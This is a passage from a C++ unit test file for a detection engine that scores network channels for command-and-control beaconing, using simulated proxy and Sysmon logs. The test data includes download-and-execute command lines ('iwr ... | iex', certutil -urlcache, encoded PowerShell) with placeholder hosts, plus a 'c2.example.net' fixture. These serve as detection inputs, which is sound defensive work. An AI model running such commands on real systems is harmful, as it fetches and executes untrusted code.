    const size_t swg = indexOf(all, "SWG01", "gitlab.com");
    QVERIFY(swg < all.size());
    QVERIFY(!factor(s[swg], "proxy_bypass") && !factor(s[swg], "server_to_consumer"));
    QCOMPARE(factor(s[swg], "fleet_wide")->detail,
             QStringLiteral("SWG01 is a Secure Web Gateway: it looks names up and connects for its clients, whose own "
                            "channels carry this behaviour"));
    // DC01 and EX01 poll the same site hourly: two of the three servers that are peers.
    const size_t dc = indexOf(all, "DC01", "update.example.com");
    QVERIFY(dc < all.size());
    QVERIFY2(factor(s[dc], "fleet_wide") &&
                 factor(s[dc], "fleet_wide")->detail.contains(QLatin1String("on 2 of 3 servers")),
             qPrintable(factor(s[dc], "fleet_wide") ? factor(s[dc], "fleet_wide")->detail : QString()));
}

void TestChannelModel::fleetComparesLikeHosts() {
    // World 2's jump host: certutil pulls a gist every 3 h through the forward proxy (CONNECT
    // lines, no process). The guest Wi-Fi's NAT address shows people reading gists about as often.
    // DC01 and EX01 are the other servers. The NAT's browsing is no server's tool: before the fix
    // the jump host's poll was "same cadence on 2 of 3 servers" and lost 35 points.
    Fixture f;
    f.host(1, "JUMP01", "Jump host (RDP)", "10.0.1.1");
    f.host(2, "GUEST-NAT", "NAT gateway (guest Wi-Fi)", "10.0.9.1");
    f.host(3, "DC01", "Domain Controller", "10.0.1.3");
    f.host(4, "EX01", "Exchange (hybrid)", "10.0.1.4");
    f.domain(1, "gist.githubusercontent.com", "githubusercontent.com");
    f.domain(2, "update.example.com", "example.com");
    for (int i = 0; i < 24; ++i) {
        f.proxy(1, 1, kT0 + 10800 * i * kS, "CONNECT", nullptr);
        f.proxy(2, 1, kT0 + (500 + 9000 * i) * kS, "CONNECT", nullptr);
        f.proxy(3, 2, kT0 + 3600 * i * kS, "GET", "/check");
        f.proxy(4, 2, kT0 + (100 + 3600 * i) * kS, "GET", "/check");
    }
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const std::vector<ChannelFeatures> all = featuresOf(f.build(config));
    const size_t jump = indexOf(all, "JUMP01", "gist.githubusercontent.com");
    const size_t nat = indexOf(all, "GUEST-NAT", "gist.githubusercontent.com");
    QVERIFY(jump < all.size() && nat < all.size());
    QCOMPARE(all[jump].medianInterval, 10800.0);
    QCOMPARE(all[nat].medianInterval, 9000.0);
    QVERIFY(all[nat].hostShared);
    const std::vector<ScoredChannel> s = ChannelScorer(config, {}, QDateTime::currentDateTimeUtc()).score(all);
    QVERIFY2(!factor(s[jump], "fleet_wide"),
             qPrintable(factor(s[jump], "fleet_wide") ? factor(s[jump], "fleet_wide")->detail : QString()));
    QVERIFY(factor(s[jump], "rare_in_fleet"));
    QCOMPARE(factor(s[jump], "rare_in_fleet")->detail, QStringLiteral("same cadence to github on 1 of 4 hosts"));
    // The servers' own fleet is still one: DC01 and EX01 poll the same site hourly, 2 of 3 servers.
    const size_t dc = indexOf(all, "DC01", "update.example.com");
    QVERIFY(dc < all.size() && factor(s[dc], "fleet_wide"));
    QCOMPARE(factor(s[dc], "fleet_wide")->detail,
             QStringLiteral("same cadence from (unknown process) to example.com on 2 of 3 servers (request evidence): "
                            "a managed tool more often than a channel"));
}

void TestChannelModel::linesBeforeProcessEvidenceJoinTheOnlyPoller() {
    // World 2 keeps Sysmon for the last two thirds of the window only. WS01's rundll32 sends
    // CONNECT 203.0.113.7:443 every 10 min for two days; Sysmon starts after the first day, so only
    // the second day's lines are tied to it (five-tuple). WS02's address is polled the same way,
    // but two programs poll it once Sysmon starts: which one the first day's lines were is unknown.
    // Before the fix the first day's lines were an "(unknown process)" channel beside rundll32's.
    Fixture f;
    f.host(1, "WS01", "Workstation", "10.0.0.11");
    f.host(2, "WS02", "Workstation", "10.0.0.12");
    f.domain(1, "203.0.113.7", nullptr);
    f.process(7, 1, R"(C:\Windows\System32\rundll32.exe)", R"(rundll32.exe C:\Users\ann\AppData\Local\x.dll,Start)");
    f.process(8, 2, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)");
    f.process(9, 2, R"(C:\Tools\agent.exe)");
    const int64_t sysmonFrom = kT0 + 86400 * kS; // each host's first Sysmon event: its process creations
    f.exec("INSERT INTO sysmon_events(id, evidence_id, record_no, ts_us, host_id, event_id, process_id) VALUES "
           "(9001, 1, 9001, " +
           std::to_string(sysmonFrom) + ", 1, 1, 7), (9002, 1, 9002, " + std::to_string(sysmonFrom) +
           ", 2, 1, 8), (9003, 1, 9003, " + std::to_string(sysmonFrom) + ", 2, 1, 9)");
    for (int i = 0; i < 288; ++i) {
        const int64_t ts = kT0 + 600 * i * kS;
        const bool tied = ts >= sysmonFrom;
        f.proxy(1, 1, ts, "CONNECT", nullptr, tied ? 7 : 0);
        f.proxy(2, 1, ts + 7 * kS, "CONNECT", nullptr, tied ? (i % 2 ? 8 : 9) : 0);
    }
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const std::vector<BuiltChannel> built = f.build(config);
    std::vector<const ChannelFeatures*> ws01, ws02;
    for (const BuiltChannel& b : built) {
        (b.features.host == QLatin1String("WS01") ? ws01 : ws02).push_back(&b.features);
    }
    // WS01: one row, all 288 lines, 144 of them joined from before Sysmon's start.
    QCOMPARE(ws01.size(), size_t(1));
    QCOMPARE(ws01[0]->processName, QStringLiteral("rundll32.exe"));
    QCOMPARE(ws01[0]->proxyRequests, int64_t(288));
    QCOMPARE(ws01[0]->joinedBeforeProcessEvidence, int64_t(144));
    QCOMPARE(ws01[0]->processEvidenceFrom, sysmonFrom);
    QCOMPARE(ws01[0]->medianInterval, 600.0);
    // WS02: two processes poll the address, so the first day's lines stay the unknown process's.
    QCOMPARE(ws02.size(), size_t(3));
    for (const ChannelFeatures* c : ws02) {
        QCOMPARE(c->joinedBeforeProcessEvidence, int64_t(0));
        QCOMPARE(c->proxyRequests, int64_t(c->processName.isEmpty() ? 144 : 72));
    }
    // The reason is shown with the channel.
    const std::vector<ChannelFeatures> all = featuresOf(built);
    const std::vector<ScoredChannel> s = ChannelScorer(config, {}, QDateTime::currentDateTimeUtc()).score(all);
    const size_t i = indexOf(all, "WS01", "203.0.113.7");
    QVERIFY(i < all.size() && factor(s[i], "joined_before_process_evidence"));
    QCOMPARE(factor(s[i], "joined_before_process_evidence")->detail,
             QStringLiteral("144 untied events from before WS01's process evidence starts (2024-03-05T00:00:00Z) "
                            "joined rundll32.exe, the only process polling 203.0.113.7 there"));
    QVERIFY(inReasons(s[i], "joined_before_process_evidence"));
}

void TestChannelModel::aVisitorIsNoPollerOfTheEndpoint() {
    // WS01's PowerShell reads a raw paste every 180 s for a day; every other request is tied to it,
    // the rest are untied (a kept-alive session's later requests). Edge opened the same raw URL seven
    // times in 18 minutes, 3 minutes apart (a link someone followed). Before the fix Edge counted as
    // a second poller of the endpoint, at the same cadence: the untied half stayed an
    // "(unknown process)" row beside PowerShell's.
    Fixture f;
    f.host(1, "WS01", "Workstation", "10.0.0.11");
    f.domain(1, "pastebin.com", "pastebin.com");
    f.process(7, 1, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)");
    f.process(8, 1, R"(C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe)");
    for (int i = 0; i < 480; ++i) {
        f.proxy(1, 1, kT0 + 180 * i * kS, "GET", "/raw/Ab12Cd34", 7);
        f.proxy(1, 1, kT0 + (90 + 180 * i) * kS, "GET", "/raw/Ab12Cd34");
    }
    for (int j = 0; j < 7; ++j) {
        f.proxy(1, 1, kT0 + (5 * 3600 + 10 + 180 * j) * kS, "GET", "/raw/Ab12Cd34", 8);
    }
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const std::vector<BuiltChannel> built = f.build(config);
    std::map<QString, int64_t> requests;
    for (const BuiltChannel& b : built) {
        requests[b.features.processName.isEmpty() ? QStringLiteral("-") : b.features.processName] +=
            b.features.proxyRequests;
    }
    QCOMPARE(requests,
             (std::map<QString, int64_t>{{QStringLiteral("msedge.exe"), 7}, {QStringLiteral("powershell.exe"), 960}}));
    QCOMPARE(built.size(), size_t(2));
}

void TestChannelModel::answerTiedLinesOfAnotherUserAgent() {
    // WS01's HTA (mshta.exe) reads a Google Doc as text every 240 s; a Google Sheets tab in Chrome
    // posts to its bind channel every 40 s. Both resolved docs.google.com, and the last process to
    // resolve it was mshta: the attributor tied every line to it by the DNS answer (0.8). The
    // sheet's lines speak Chrome's User-Agent, not the HTA's: before the fix they were a second
    // mshta.exe row (no endpoint) beside its document poll.
    Fixture f;
    f.host(1, "WS01", "Workstation", "10.0.0.11");
    f.domain(1, "docs.google.com", "google.com");
    f.process(7, 1, R"(C:\Windows\System32\mshta.exe)");
    const char* msie = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; Trident/7.0)";
    const char* chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                         "Chrome/122.0.0.0 Safari/537.36";
    for (int i = 0; i < 360; ++i) { // a day
        f.proxy(1, 1, kT0 + 240 * i * kS, "GET", "/document/d/1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcde/export", 7,
                nullptr, 640, 200, 0.8, msie);
    }
    for (int i = 0; i < 2160; ++i) {
        f.proxy(1, 1, kT0 + (20 + 40 * i) * kS, "POST", "/spreadsheets/d/17keINuzgZAUnzQ/bind", 7, nullptr, 330, 200,
                0.8, chrome);
    }
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const std::vector<BuiltChannel> built = f.build(config);
    QCOMPARE(built.size(), size_t(2));
    for (const BuiltChannel& b : built) {
        if (b.features.processName == QLatin1String("mshta.exe")) {
            QVERIFY2(!b.features.endpoint.isEmpty(), "the HTA has one row: its document poll");
            QCOMPARE(b.features.proxyRequests, int64_t(360));
            QCOMPARE(b.features.userAgent, QString::fromLatin1(msie));
        } else {
            QCOMPARE(b.features.processName, QString());
            QCOMPARE(b.features.proxyRequests, int64_t(2160));
            QCOMPARE(b.features.medianInterval, 40.0);
        }
    }
}

void TestChannelModel::untiedLinesJoinTheProcessAtTheirCadence() {
    // World 2 keeps Sysmon for the last two thirds of the window. WS01's PowerShell polls a raw
    // paste through a TLS-inspecting proxy; each kept-alive session opens with a CONNECT, every
    // 600 s. On the first day nothing ties the CONNECTs to it. Outlook also polls pastebin.com
    // (CONNECT every 3 h, tied), so "the only poller there" does not apply. The first day's
    // CONNECTs keep PowerShell's session cadence, not Outlook's: before the fix they were an
    // "(unknown process)" row.
    Fixture f;
    f.host(1, "WS01", "Workstation", "10.0.0.11");
    f.domain(1, "pastebin.com", "pastebin.com");
    f.process(7, 1, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)");
    f.process(9, 1, R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)");
    const int64_t sysmonFrom = kT0 + 86400 * kS;
    f.exec("INSERT INTO sysmon_events(id, evidence_id, record_no, ts_us, host_id, event_id, process_id) VALUES "
           "(9001, 1, 9001, " +
           std::to_string(sysmonFrom) + ", 1, 1, 7)");
    for (int i = 0; i < 288; ++i) { // two days of sessions
        const int64_t ts = kT0 + 600 * i * kS;
        f.proxy(1, 1, ts, "CONNECT", nullptr, ts >= sysmonFrom ? 7 : 0);
        if (ts >= sysmonFrom) {
            f.proxy(1, 1, ts + kS, "GET", "/raw/Ab12Cd34", 7);
        }
    }
    for (int i = 0; i < 8; ++i) {
        f.proxy(1, 1, sysmonFrom + (300 + 10800 * i) * kS, "CONNECT", nullptr, 9);
    }
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const std::vector<BuiltChannel> built = f.build(config);
    QCOMPARE(built.size(), size_t(2));
    const ChannelFeatures* ps =
        find(built, QStringLiteral("WS01"), QStringLiteral("pastebin.com"), QStringLiteral("powershell.exe"));
    QVERIFY(ps);
    QCOMPARE(ps->endpoint, QStringLiteral("pastebin.com/raw/Ab12Cd34"));
    QCOMPARE(ps->proxyRequests, int64_t(144 + 144 + 144));
    QCOMPARE(ps->joinedByCadence, int64_t(144));
    QCOMPARE(ps->joinedBeforeProcessEvidence, int64_t(0));
    const std::vector<ChannelFeatures> all = featuresOf(built);
    const std::vector<ScoredChannel> s = ChannelScorer(config, {}, QDateTime::currentDateTimeUtc()).score(all);
    size_t i = 0;
    while (i < all.size() && all[i].processName != QLatin1String("powershell.exe")) {
        ++i;
    }
    QVERIFY(i < all.size() && factor(s[i], "joined_by_cadence"));
    QCOMPARE(factor(s[i], "joined_by_cadence")->detail,
             QStringLiteral("144 untied events polling at this channel's cadence joined powershell.exe, the one "
                            "process polling pastebin.com/raw/Ab12Cd34 at it on WS01"));
    QVERIFY(inReasons(s[i], "joined_by_cadence"));
    QCOMPARE(all[i].toJson().value("joined_by_cadence").toInteger(), qint64(144));
}

void TestChannelModel::requestSharesLeaveOutTunnels() {
    // A chat client posts its telemetry every 100 s through a TLS-inspecting proxy that logs a
    // CONNECT before each two-minute session's decrypted requests: 864 POSTs and 432 CONNECTs
    // in a day. Its requests are all POSTs; before the fix the tunnels counted as requests (67 %
    // POST), under the 80 % a heartbeat needs.
    Fixture f;
    f.host(1, "WS01", "Workstation", "10.0.0.11");
    f.host(2, "WS02", "Workstation", "10.0.0.12");
    f.host(3, "WS03", "Workstation", "10.0.0.13");
    f.domain(1, "discord.com", "discord.com");
    f.process(7, 1, R"(C:\Users\ann\AppData\Local\Discord\app-1.0.9035\Discord.exe)");
    for (int i = 0; i < 864; ++i) {
        if (i % 2 == 0) {
            f.proxy(1, 1, kT0 + (100 * i - 1) * kS, "CONNECT", nullptr, 7);
        }
        f.proxy(1, 1, kT0 + 100 * i * kS, "POST", "/api/v9/science", 7);
    }
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const std::vector<ChannelFeatures> all = featuresOf(f.build(config));
    QCOMPARE(all.size(), size_t(1));
    QCOMPARE(all[0].proxyRequests, int64_t(864 + 432));
    QCOMPARE(all[0].postShare, 1.0);
    QCOMPARE(all[0].getShare, 0.0);
    QCOMPARE(all[0].connectShare, 432.0 / 1296.0);
    const std::vector<ScoredChannel> s = ChannelScorer(config, {}, QDateTime::currentDateTimeUtc()).score(all);
    QVERIFY(factor(s[0], "post_heartbeat"));
    QCOMPARE(factor(s[0], "post_heartbeat")->contribution, -10.0);
}

void TestChannelModel::electronUserAgentIsNoMismatch() {
    // Electron apps send Chrome's tokens and their own: Discord, Slack, VS Code. From their own
    // program that is no browser User-Agent from a non-browser; from another program it still is.
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const QString discordUa =
        QStringLiteral("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
                       "Gecko) discord/1.0.9035 Chrome/120.0.6099.291 Electron/28.2.10 "
                       "Safari/537.36");
    const QString slackUa = QStringLiteral("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
                                           "Gecko) Slack/4.36.140 Chrome/120.0.6099.291 Electron/28.2.6 "
                                           "Safari/537.36 AppName/desktop SonicDesktop/");
    const QString chromeUa = QStringLiteral("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
                                            "Gecko) Chrome/122.0.0.0 Safari/537.36");
    const std::vector<std::tuple<QString, QString, bool>> cases{
        {QStringLiteral(R"(C:\Users\ann\AppData\Local\Discord\app-1.0.9035\Discord.exe)"), discordUa, false},
        {QStringLiteral(R"(C:\Users\ann\AppData\Local\slack\app-4.36.140\slack.exe)"), slackUa, false},
        {QStringLiteral(R"(C:\Windows\System32\rundll32.exe)"), discordUa, true}, // not its own
        {QStringLiteral(R"(C:\Users\ann\AppData\Local\slack\app-4.36.140\slack.exe)"), chromeUa, true},
    };
    std::vector<ChannelFeatures> all;
    for (const auto& [image, ua, mismatch] : cases) {
        ChannelFeatures c;
        c.host = QStringLiteral("WS%1").arg(all.size());
        c.hostId = static_cast<int64_t>(all.size() + 1);
        c.destination = QStringLiteral("discord.com");
        c.processImage = image;
        const qsizetype cut = image.lastIndexOf(QLatin1Char('\\'));
        c.processName = image.mid(cut + 1).toLower();
        c.userAgent = ua;
        all.push_back(c);
    }
    const std::vector<ScoredChannel> s = ChannelScorer(config, {}, QDateTime::currentDateTimeUtc()).score(all);
    for (size_t i = 0; i < cases.size(); ++i) {
        QVERIFY2((factor(s[i], "user_agent_mismatch") != nullptr) == std::get<2>(cases[i]),
                 qPrintable(all[i].processName + QLatin1Char(' ') + all[i].userAgent));
    }
}

void TestChannelModel::everyListCitesItsSource() {
    QCOMPARE(ScoringConfig::uncitedLists(defaults()), std::vector<std::string>{});
    // Every list the config reads is in the shipped file (so it is checked above).
    for (const std::string& key : ScoringConfig::listKeys()) {
        QVERIFY2(defaults().contains(QByteArray::fromStdString("\n" + key + ":")), key.c_str());
    }
    // The check fails on a list without a source, and on one whose source is not an address.
    const QByteArray uncited = "weights: {a: 1}\n# Lower-case names.\nbrowsers: [x.exe]\n"
                               "# Source: the vendor's page\nlolbins:\n  - y.exe\n"
                               "office_parents:\n  # Source: https://example.org/doc\n  - z.exe\n";
    QCOMPARE(ScoringConfig::uncitedLists(uncited), (std::vector<std::string>{"browsers", "lolbins"}));
}

void TestChannelModel::powershellAbbreviations_data() {
    QTest::addColumn<QString>("commandLine");
    QTest::addColumn<bool>("hidden");
    const QString b64 = QStringLiteral("SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA");
    // about_PowerShell_exe / about_Pwsh: -EncodedCommand, its aliases -e and -ec, any unambiguous
    // prefix (-en, -enc, -enco ...), '/' for '-'; -WindowStyle (-w) Hidden, or its value 1.
    for (const char* p : {"-e", "-ec", "-en", "-enc", "-encodedcommand", "/enc", "-EnC", "\u2013enc"}) {
        QTest::newRow(p) << QStringLiteral("powershell.exe -nop %1 %2").arg(QString::fromUtf8(p), b64) << true;
    }
    QTest::newRow("-w h") << QStringLiteral("powershell -w h -c x") << true;
    QTest::newRow("-win hid") << QStringLiteral("powershell -win hid -c x") << true;
    QTest::newRow("-WindowStyle Hidden") << QStringLiteral("pwsh.exe -WindowStyle Hidden -File a.ps1") << true;
    QTest::newRow("/w 1") << QStringLiteral("powershell /w 1 -c x") << true;
    QTest::newRow("-ExecutionPolicy") << QStringLiteral("powershell -ExecutionPolicy Bypass -File a.ps1") << false;
    QTest::newRow("-WorkingDirectory") << QStringLiteral("pwsh -wd hosts -File a.ps1") << false;
    QTest::newRow("-w normal") << QStringLiteral("powershell -w normal -File a.ps1") << false;
    QTest::newRow("short -e") << QStringLiteral("powershell -e abc") << false;
    QTest::newRow("iwr") << QStringLiteral("powershell iwr https://x/y | iex") << true;
    QTest::newRow("certutil") << QStringLiteral("certutil.exe -urlcache -split -f https://x/y a.txt") << true;
}

void TestChannelModel::powershellAbbreviations() {
    QFETCH(QString, commandLine);
    QFETCH(bool, hidden);
    const ScoringConfig c = ScoringConfig::fromYaml(defaults());
    bool matched = false;
    for (const QRegularExpression& re : c.hiddenCommandLine) {
        matched = matched || re.match(commandLine).hasMatch();
    }
    QCOMPARE(matched, hidden);
}

void TestChannelModel::launcherParentsByCommandLine() {
    const ScoringConfig c = ScoringConfig::fromYaml(defaults());
    const QString svchost = QStringLiteral(R"(C:\Windows\System32\svchost.exe)");
    // The Task Scheduler's own service host, and only where the command line says so.
    QVERIFY(c.launcher(svchost, QStringLiteral(R"(C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule)")));
    QVERIFY(!c.launcher(svchost, QStringLiteral(R"(C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS)")));
    QVERIFY(!c.launcher(svchost, QStringLiteral(R"(C:\Windows\system32\svchost.exe -k netsvcs)")));
    QVERIFY(!c.launcher(svchost, QString())); // unknown: it hosts nearly every service
    QVERIFY(!c.launcher(QStringLiteral(R"(C:\Windows\System32\services.exe)"), QString()));
    QVERIFY(c.launcher(QStringLiteral(R"(C:\Windows\System32\wbem\WmiPrvSE.exe)"), QString()));
    QVERIFY(c.launcher(QStringLiteral("/usr/sbin/cron"), QStringLiteral("/usr/sbin/CRON -f")));
    QVERIFY(!c.launcher(QStringLiteral("/usr/lib/systemd/systemd"), QStringLiteral("/sbin/init")));
}

void TestChannelModel::rolePatterns() {
    const ScoringConfig c = ScoringConfig::fromYaml(defaults());
    for (const char* role : {"file-server", "SQL01 database", "DC", "Domain Controller", "web-server", "build-server",
                             "application-server", "Exchange mailbox", "srv-app-02", "MSSQL", "Jump host (RDP)"}) {
        QVERIFY2(c.isServerRole(QString::fromLatin1(role)), role);
    }
    for (const char* role : {"workstation", "laptop", "developer workstation", ""}) {
        QVERIFY2(!c.isServerRole(QString::fromLatin1(role)), role);
    }
    for (const char* role : {"NAT gateway", "VDI pool", "Citrix VDA", "terminal server", "RDS session host",
                             "guest Wi-Fi", "AVD multi-session"}) {
        QVERIFY2(c.isSharedRole(QString::fromLatin1(role)), role);
        // Many users behind one address are no server peer ("gateway", "server" match a server).
        QVERIFY2(!c.isServerRole(QString::fromLatin1(role)), role);
    }
    QVERIFY(!c.isServerRole(QStringLiteral("NAT gateway (guest Wi-Fi)")));
    for (const char* role : {"workstation", "database-server", "signature pad"}) {
        QVERIFY2(!c.isSharedRole(QString::fromLatin1(role)), role);
    }
}

void TestChannelModel::unusualClientOfAFleetService() {
    // Four workstations' sync client polls the service every 4 min; on one of them a program no
    // other host runs polls it every 25 min.
    auto channel = [](int64_t host, const char* image, double median) {
        ChannelFeatures f;
        f.hostId = host;
        f.host = QStringLiteral("WS-%1").arg(host);
        f.hostRole = QStringLiteral("workstation");
        f.processImage = QString::fromLatin1(image);
        f.processName = f.processImage.section(QLatin1Char('\\'), -1).toLower();
        f.destination = QStringLiteral("api.onedrive.com");
        f.registeredDomain = QStringLiteral("onedrive.com");
        f.service = QStringLiteral("onedrive");
        f.serviceRisk = 0.5;
        f.timingClass = QStringLiteral("session");
        f.intervals = f.bandIntervals = 60;
        f.polls = 61;
        f.medianInterval = median;
        f.bandShare = f.bandScore = f.ritaTs = 1;
        f.lastTs = 24 * 3600 * kS;
        return f;
    };
    std::vector<ChannelFeatures> fleet;
    for (int h = 1; h <= 4; ++h) {
        fleet.push_back(channel(h, R"(C:\Users\u\AppData\Local\Microsoft\OneDrive\OneDrive.exe)", 240));
    }
    fleet.push_back(channel(2, R"(C:\Users\u\AppData\Local\Microsoft\OneDrive\Updater2.exe)", 1500));
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const std::vector<ScoredChannel> s = ChannelScorer(config, {}, QDateTime::currentDateTimeUtc()).score(fleet);
    const Factor* unusual = factor(s[4], "unusual_client");
    QVERIFY(unusual);
    QCOMPARE(unusual->contribution, 6.0);
    QCOMPARE(unusual->detail,
             QStringLiteral("the fleet polls onedrive with onedrive.exe; only this host polls it with updater2.exe"));
    QVERIFY(!factor(s[0], "unusual_client")); // the fleet's own client
    QVERIFY(factor(s[0], "fleet_wide"));
    QVERIFY(!factor(s[4], "user_writable_image")); // OneDrive's documented per-user folder
}

void TestChannelModel::weakTiesYieldToConnections() {
    // A sync client's tunnels: its own five-tuple lines every 4 min, and lines the importer tied
    // to it by a DNS answer alone that are really another client's (60 s tunnels, logged at their
    // close, whose opening is 60 s earlier). The browser's one weakly tied page stays the browser's.
    Fixture f;
    f.host(1, "WS-1", "workstation", "10.0.0.1");
    f.domain(1, "api.onedrive.com", "onedrive.com");
    f.process(1, 1, R"(C:\Users\u\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdate.exe)");
    f.process(2, 1, R"(C:\Program Files\Google\Chrome\Application\chrome.exe)");
    for (int k = 0; k < 20; ++k) {
        f.proxy(1, 1, kT0 + 1500 * k * kS, "CONNECT", nullptr, 1, nullptr, 5200, 1100);
        for (int j = 1; j <= 6; ++j) { // six tunnels of the other client between two polls
            f.proxy(1, 1, kT0 + (1500 * k + 240 * j) * kS, "CONNECT", nullptr, j % 2 ? 1 : 0, nullptr, 3100, 60000,
                    0.9);
        }
        f.proxy(1, 1, kT0 + (1500 * k + 700) * kS, "GET", "/", 2); // the browser, tied by its connection
    }
    f.proxy(1, 1, kT0 + 40000 * kS, "GET", "/page", 2, nullptr, 5000, 200, 0.9);
    const std::vector<BuiltChannel> built = f.build(ScoringConfig::fromYaml(defaults()));
    const ChannelFeatures* poller = find(built, "WS-1", "api.onedrive.com", "onedrivestandaloneupdate.exe");
    const ChannelFeatures* other = find(built, "WS-1", "api.onedrive.com", "");
    const ChannelFeatures* browser = find(built, "WS-1", "api.onedrive.com", "chrome.exe");
    QVERIFY(poller && other && browser);
    QCOMPARE(poller->members, members({{"connect", "record", 20}}));
    QCOMPARE(poller->medianInterval, 1500.0);
    QCOMPARE(other->members, members({{"connect", "record", 120}}));
    QCOMPARE(browser->members, members({{"http", "record", 21}}));
}

void TestChannelModel::rescoreRefusesOlderFeatures() {
    // Features stored by an older engine (no feature_version): a re-score must not read them
    // with defaults for what they lack.
    Fixture f;
    f.host(1, "WS-1", "workstation", "10.0.0.1");
    f.domain(1, "example.org", "example.org");
    f.proxy(1, 1, kT0, "GET", "/");
    f.exec("INSERT INTO alerts(channel_key, host_id, host, destination, requests, first_ts, last_ts, features, score) "
           "VALUES ('WS-1|-|example.org|', 1, 'WS-1', 'example.org', 10, 0, 0, "
           "'{\"key\":\"WS-1|-|example.org|\",\"polls\":10,\"timing_source\":\"proxy\"}', 12)");
    std::vector<ChannelFeatures> old{ChannelFeatures::fromJson(QJsonObject{{"key", "x"}, {"polls", 10}})};
    QCOMPARE(old.front().featureVersion, int64_t(1));
    QVERIFY_THROWS_EXCEPTION(StaleFeatures, requireCurrentFeatures(old));
    const ScoreOutcome o = ScoringEngine(f.store()).run(ScoreMode::Rescore);
    QCOMPARE(o.status, QStringLiteral("failed"));
    QVERIFY2(o.message.contains(QLatin1String("feature version 1")) &&
                 o.message.contains(QLatin1String("run a full score")),
             qPrintable(o.message));
    QCOMPARE(queryInt(f.db(), "SELECT score FROM alerts").value(), int64_t(12)); // kept as it was
    // A full score recomputes them.
    QCOMPARE(ScoringEngine(f.store()).run(ScoreMode::Full).status, QStringLiteral("done"));
    QCOMPARE(queryText(f.db(), "SELECT json_extract(features, '$.feature_version') FROM alerts LIMIT 1"),
             std::to_string(kFeatureVersion));
}

void sameChannels(const std::vector<BuiltChannel>& got, const std::vector<BuiltChannel>& want) {
    QCOMPARE(got.size(), want.size());
    for (size_t i = 0; i < want.size(); ++i) {
        QCOMPARE(QJsonDocument(got[i].features.toJson()).toJson(QJsonDocument::Compact),
                 QJsonDocument(want[i].features.toJson()).toJson(QJsonDocument::Compact));
        QCOMPARE(got[i].proxyBlob, want[i].proxyBlob);
        QCOMPARE(got[i].dnsBlob, want[i].dnsBlob);
        QCOMPARE(got[i].dnsQueryBlob, want[i].dnsQueryBlob);
        QCOMPARE(got[i].netBlob, want[i].netBlob);
        QCOMPARE(got[i].sensorBlob, want[i].sensorBlob);
    }
}

// Eight hosts polling, browsing and connecting: channels that join events of every kind, User-Agents,
// endpoints and names only connections give (every id a reader interns), over several hosts.
void fleet(Fixture& f) {
    f.domain(1, "api.dropbox.com", "dropbox.com");
    f.domain(2, "updates.example.org", "example.org");
    f.domain(3, "pastebin.com", "pastebin.com");
    f.domain(4, "104.16.0.9", nullptr);
    for (int h = 1; h <= 8; ++h) {
        const std::string name = "WS-" + std::to_string(h);
        const std::string ip = "10.0.0." + std::to_string(h);
        f.host(h, name.c_str(), "workstation", ip.c_str());
        f.process(10 * h + 1, h, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)");
        f.process(10 * h + 2, h, R"(C:\Program Files\Google\Chrome\Application\chrome.exe)");
        for (int k = 0; k < 30 + 5 * h; ++k) {
            const int64_t t = kT0 + (h * 37 + k * (60 + h)) * kS;
            f.proxy(h, 1, t, k % 3 ? "GET" : "POST", "/2/files/list", 10 * h + 1, nullptr, k % 7 ? 690 : 4000);
            f.proxy(h, 2, t + 13 * kS, "GET", "/check", k % 2 ? 0 : 10 * h + 2);
            if (k % 4 == 0) {
                f.proxy(h, 3, t + 21 * kS, "POST", "/api/api_post.php", 10 * h + 1);
                f.dns(h, 1, t - 2 * kS, "162.125.1.18", "60");
            }
            if (k % 3 == 1) {
                f.proxy(h, 2, t + 17 * kS, "GET", "/news", 10 * h + 2, nullptr, 5000, 120, 0.95,
                        k % 2 ? "Mozilla/5.0 (Windows NT 10.0) Chrome/120.0" : "Mozilla/5.0 Firefox/115.0");
            }
            if (k % 6 == 2) {
                f.connection(h, 10 * h + 1, t + 7 * kS, "198.51.100.7", h % 2 ? "c2.example.net" : "");
                f.connection(h, 10 * h + 2, t + 9 * kS, "203.0.113.5");
            }
            if (k % 5 == 0) {
                f.connection(h, 10 * h + 1, t + 5 * kS, "104.16.0.9");
                f.proxy(h, 4, t + 30 * kS, "CONNECT", nullptr, 0);
            }
        }
    }
}

void TestChannelModel::parkedEventsGiveTheSameChannels() {
    // Issue 20: a case of more events than the builder holds at once is parked on disk by host and
    // made into channels a run of hosts at a time. Every channel must come out as from one pass in
    // memory, in the same order: features (cross-host ones included: late start against the whole
    // log, idle hours, output elsewhere) and member ids.
    Fixture f;
    fleet(f);
    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const WebServiceCatalog catalog = WebServiceCatalog::load();
    ChannelBuilder inMemory(f.db(), catalog, config);
    inMemory.setPartitionEvents(int64_t(1) << 40);
    const std::vector<BuiltChannel> whole = inMemory.build();
    QCOMPARE(inMemory.partitions(), 1);
    ChannelBuilder parked(f.db(), catalog, config);
    parked.setPartitionEvents(150); // about two hosts' events at a time
    const std::vector<BuiltChannel> runs = parked.build();
    QVERIFY2(parked.partitions() >= 4, qPrintable(QString::number(parked.partitions())));
